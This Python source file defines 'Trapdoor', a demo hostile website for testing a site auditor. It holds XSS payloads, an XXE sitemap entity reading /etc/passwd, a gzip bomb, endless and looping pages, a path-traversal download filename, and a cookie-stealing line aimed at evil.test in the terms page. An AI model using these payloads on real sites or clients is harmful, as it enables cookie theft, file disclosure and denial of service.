"""Trapdoor: a hostile service that tries every way to break or hang an auditor.

Its traps sit where a sweep must go, as on a hostile real site: behind the footer's key links
and in the sitemap, not on pages nobody opens.
- Footer "Terms" -> ``/huge``: the terms of service (minimum age 16, a "last updated" date that
  does not exist) at the top of a 5 MB page ("archive of earlier versions"); ``/terms`` is an
  old address that redirects there.
- Footer "Privacy" -> ``/slow``: the privacy policy arrives in the first chunk, then the page
  never finishes loading (a chunk every half second until the client leaves, the demo web
  stops, or ``DemoWeb.stream_seconds`` passes, so server threads never pile up).
- Footer "Contact" -> ``/dialogs`` (by a link whose query holds ``</script><script>``):
  ``alert``, ``confirm`` and ``prompt`` on load.
- Footer "Report abuse" -> ``/loop``: a redirect loop (``/loop`` -> ``/loop/a`` -> ``/loop/b``
  -> ``/loop``).
- Footer "Community guidelines" -> ``/popup``: short rules and ``window.open`` pop-ups (one
  level deep).
- Footer "Help" -> ``/bomb``: a gzip bomb (20 MB from 20 KB).
- The sitemap (with an XXE entity declaration) lists a post that is a meta-refresh loop
  (``/posts/announcement-1``, also ``/refresh``) and a file whose download name climbs out of any
  folder (``/files/setup-2``, also ``/download``: ``../../../../tmp/trapdoor-pwned.sh``).
- The home page: ``</script><script>alert(1)</script>`` in the title, ``"><img src=x
  onerror=alert(2)>`` in text, link text and an ``href``; ``javascript:``, ``data:`` and
  ``file:`` links named Privacy, Community guidelines and Contact; path-traversal, reserved-name
  and very long URLs; an ``alert`` on load and a ``beforeunload`` guard.
- robots.txt with junk lines.
None of it is harmful outside the browser that visits it.  The service has no signup, login,
report form or age gate.
"""

from __future__ import annotations

import gzip
import time
from functools import cache

from werkzeug.wrappers import Request, Response

from auditor.demo.kit import Service, Site, doc, esc, html

HOST = "trapdoor.test"
U = f"http://{HOST}"

XSS_TITLE = 'Trapdoor </script><script>alert("title")</script>'
XSS_TEXT = '"><img src=x onerror=alert(2)>'


def _raw_doc(title_raw: str, body: str, head: str = "") -> str:
    """Like :func:`doc` but the title is written as given (RCDATA: shown as text)."""
    return (f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
            f"<title>{title_raw}</title>{head}</head><body>{body}</body></html>")


CONTACT_HREF = '/dialogs?from=</script><script>alert("contact")</script>'

HOME_BODY = f"""
<h1>Welcome to {esc(XSS_TITLE)}</h1>
<p>Today's headline: {esc(XSS_TEXT)} and <b>{esc("<script>alert(3)</script>")}</b></p>
<ul id="links">
<li><a href="/news">Latest news {esc("</script><script>alert('link')</script>")}</a></li>
<li><a href='/search?q="><img src=x onerror=alert(4)>'>Search {esc(XSS_TEXT)}</a></li>
<li><a href="javascript:alert('privacy')">Privacy</a></li>
<li><a href="data:text/html,<script>alert('data')</script>">Community guidelines</a></li>
<li><a href="file:///etc/passwd">Contact (file)</a></li>
<li><a href="/a/b/../../..%2F..%2Fetc%2Fpasswd">Old pages</a></li>
<li><a href="/page/CON/aux/nul.txt">Reserved names</a></li>
<li><a href="/{"x" * 1800}">A very long URL</a></li>
</ul>
<footer>
<a href="/huge">Terms</a> | <a href="/slow">Privacy</a> |
<a href="{esc(CONTACT_HREF)}">Contact</a> | <a href="/loop">Report abuse</a> |
<a href="/popup">Community guidelines</a> | <a href="/bomb">Help</a>
</footer>
<script>alert('Welcome to Trapdoor!');
window.addEventListener('beforeunload', function (e) {{ e.preventDefault(); e.returnValue = ''; }});
</script>
"""

TERMS_TOP = f"""
<article>
<h1>Terms of service {esc("<!-- ]]> </title>")}</h1>
<p>By using Trapdoor you agree to these terms. {esc(XSS_TEXT)}</p>
<h2>Age</h2>
<p>You must be 16 years or older to use Trapdoor.</p>
<h2>Content</h2>
<p>Do not post illegal content. {esc("<script>document.location='http://evil.test/'+document.cookie</script>")}</p>
<p>Last updated: 30 February 2025</p>
<script>document.title = document.title + ' </script><script>alert(5)</script>';</script>
<h2>Archive of earlier versions</h2>
"""  # noqa: E501

PRIVACY_TOP = """<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'>
<title>Privacy policy</title></head><body><h1>Privacy policy</h1>
<p>Trapdoor keeps the address of each page you open and your IP address for 30 days, to keep
the service running. We do not sell them. Write to the address on the Contact page to see what we
hold about you.</p>
<h2>Live updates</h2>
"""

DIALOGS_BODY = """
<h1>Contact us</h1><p>Answer the questions first.</p>
<script>
alert('Are you sure?');
if (confirm('Really contact us?')) { prompt('Your name?', '<img src=x onerror=alert(6)>'); }
</script>
"""

POPUP_BODY = """
<h1>Community guidelines</h1>
<p>Be kind to each other. Do not post anything illegal.</p>
<p><a href="/popup/child" target="_blank" id="new-tab">Read the full rules</a></p>
<script>
window.open('/popup/child', 'pop1');
window.open('http://ads.elsewhere.test/', 'pop2');
setTimeout(function () { window.open('/popup/child?again=1', '_blank'); }, 200);
</script>
"""

ROBOTS = """# robots.txt with junk
User-agent: *
Disallow: /private/
Crawl-delay: abc
Disallow /missing-colon
<script>alert('robots')</script>
Sitemap: http://trapdoor.test/sitemap.xml
"""

SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <url><loc>http://trapdoor.test/</loc></url>
  <url><loc>http://trapdoor.test/terms</loc></url>
  <url><loc>http://trapdoor.test/posts/announcement-1</loc></url>
  <url><loc>http://trapdoor.test/files/setup-2</loc></url>
  <url><loc>http://trapdoor.test/&xxe;</loc></url>
</urlset>
"""


@cache
def _huge() -> bytes:
    para = ("<p>" + "All work and no play makes a huge page. " * 20 + "</p>\n").encode()
    n = 5 * 1024 * 1024 // len(para) + 1
    return (b"<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'>"
            b"<title>Terms &lt;/script&gt; of service</title></head><body>"
            + TERMS_TOP.encode() + para * n + b"</article></body></html>")


@cache
def _bomb() -> bytes:
    return gzip.compress(b"<!DOCTYPE html><html><body>" + b" " * (20 * 1024 * 1024)
                         + b"</body></html>", compresslevel=9)


def build() -> Site:
    site = Site([HOST], cookie="td_sid")

    @site.route("/")
    def home(req: Request):
        return html(_raw_doc(esc(XSS_TITLE), HOME_BODY))

    @site.route("/terms")
    def terms(req: Request):                  # an old address of the terms
        return Response("", status=301, headers={"Location": f"{U}/huge"})

    @site.route("/search")
    def search(req: Request):
        q = req.args.get("q", "")
        return html(doc("Search", f"<h1>Results for {esc(q)}</h1><p>None.</p>"))

    @site.route("/loop")
    def loop(req: Request):
        return Response("", status=302, headers={"Location": "/loop/a"})

    @site.route("/loop/a")
    def loop_a(req: Request):
        return Response("", status=302, headers={"Location": "/loop/b"})

    @site.route("/loop/b")
    def loop_b(req: Request):
        return Response("", status=301, headers={"Location": f"{U}/loop"})

    @site.route("/refresh")
    @site.route("/posts/announcement-1")
    def refresh(req: Request):                # reloads itself for ever
        return html(doc("Announcements", "<h1>Announcement</h1><p>Redirecting…</p>",
                        head=f'<meta http-equiv="refresh" content="0; url={req.path}?again=1">'))

    @site.route("/slow")
    def slow(req: Request):
        web = req.environ.get("demo.web")
        limit = getattr(web, "stream_seconds", 30.0)
        stopping = getattr(web, "stopping", None)

        def stream():
            yield PRIVACY_TOP.encode()
            end = time.monotonic() + limit
            i = 0
            while time.monotonic() < end and not (stopping and stopping.is_set()):
                i += 1
                yield f"<p>Still loading&hellip; {i}</p>\n".encode()
                if stopping is not None:
                    stopping.wait(0.5)
                else:
                    time.sleep(0.5)
            # never closes </body></html>: the document is never complete

        return Response(stream(), content_type="text/html; charset=utf-8", direct_passthrough=True)

    @site.route("/huge")
    def huge(req: Request):
        return Response(_huge(), content_type="text/html; charset=utf-8")

    @site.route("/bomb")
    def bomb(req: Request):
        return Response(_bomb(), content_type="text/html; charset=utf-8",
                        headers={"Content-Encoding": "gzip"})

    @site.route("/dialogs")
    def dialogs(req: Request):
        return html(doc("Contact us", DIALOGS_BODY))

    @site.route("/popup")
    def popup(req: Request):
        return html(doc("Community guidelines", POPUP_BODY))

    @site.route("/popup/child")
    def popup_child(req: Request):
        nested = "" if req.args.get("nested") else \
            "<script>window.open('/popup/child?nested=1')</script>"   # one level only
        return html(doc("Pop-up", f"<h1>Surprise pop-up</h1>{nested}"))

    @site.route("/download")
    @site.route("/files/setup-2")
    def download(req: Request):
        return Response(b"#!/bin/sh\necho 'demo web: this file should never run'\n",
                        content_type="application/x-sh",
                        headers={"Content-Disposition":
                                 'attachment; filename="../../../../tmp/trapdoor-pwned.sh"; '
                                 "filename*=UTF-8''..%2F..%2F..%2Ftmp%2Ftrapdoor-pwned.sh"})

    @site.route("/robots.txt")
    def robots(req: Request):
        return Response(ROBOTS, content_type="text/plain")

    @site.route("/sitemap.xml")
    def sitemap(req: Request):
        return Response(SITEMAP, content_type="application/xml")

    @site.route("/<path:rest>")
    def anything(req: Request, rest: str):
        return html(doc("Not here", f"<h1>Nothing at {esc(rest[:200])}</h1>"), status=404)

    return site


SERVICE = Service(
    id="trapdoor",
    name="Trapdoor",
    hosts=[HOST],
    start_url=f"{U}/",
    factory=build,
    row={"service_kind": "other", "tags": "demo;hostile",
         "notes": "Demo: hostile markup; its key pages are traps (huge, endless, bomb, loops)"},
    description="hostile: script-like text; footer links and sitemap lead into traps",
)
